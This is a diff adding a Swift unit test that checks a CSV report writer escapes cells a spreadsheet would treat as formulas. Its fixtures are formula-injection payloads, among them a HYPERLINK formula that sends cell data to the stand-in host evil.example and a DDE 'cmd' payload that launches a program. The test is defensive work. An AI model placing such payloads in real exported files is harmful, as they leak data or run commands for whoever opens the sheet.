@@ -89,6 +89,33 @@ import Testing
         #expect(try column("status", body[11]) == "skipped" && column("failure_code", body[11]) == "")
     }
 
+    /// Issue 28, finding 13: answers and ids that a spreadsheet runs as a formula (`=`, `+`, `-`,
+    /// `@`, a tab or a carriage return first) were written as they were; each now starts with `'`,
+    /// while a negative number in a numeric column stays a number.
+    @Test func aCellASpreadsheetWouldRunAsAFormulaIsWrittenAsText() throws {
+        var record = ReportFixtures.run()
+        record.runId = "=1+2"
+        record.runtime.model.path = "/models/-cmd"
+        record.suites[0].name = "@SUM(A1:A9)"
+        record.suites[0].conversations[0].id = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"open\")"
+        let answers = ["+1", "-cmd|' /C calc'!A0", "@SUM(1,2)", "\t=1+1", "\r=1+1", "1+1=2"]
+        for (index, answer) in answers.enumerated() {
+            record.suites[0].conversations[index / 3].turns[index % 3].replayed.answer = answer
+        }
+        record.suites[0].conversations[0].turns[0].replayed.metrics?.timeToFirstToken = -0.5
+
+        let rows = try StrictCSV.parse(CSVReport.render(runs: [record])).dropFirst()
+        func column(_ name: String, _ row: [String]) throws -> String {
+            row[try #require(CSVReport.columns.firstIndex(of: name))]
+        }
+        let first = try #require(rows.first)
+        #expect(try column("run_id", first) == "'=1+2" && column("model", first) == "'-cmd")
+        #expect(try column("suite", first) == "'@SUM(A1:A9)")
+        #expect(try column("conversation", first) == "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"open\")")
+        #expect(try rows.prefix(6).map { try column("answer", $0) } == answers.dropLast().map { "'" + $0 } + ["1+1=2"])
+        #expect(try column("time_to_first_token_s", first) == "-0.5", "a number stays a number")
+    }
+
     /// Models side by side: each run's rows, named by its group's label.
     @Test func runsSideBySideAreEachListedByTheirLabel() throws {
         var first = ReportFixtures.run(model: "a.gguf", seed: 1)
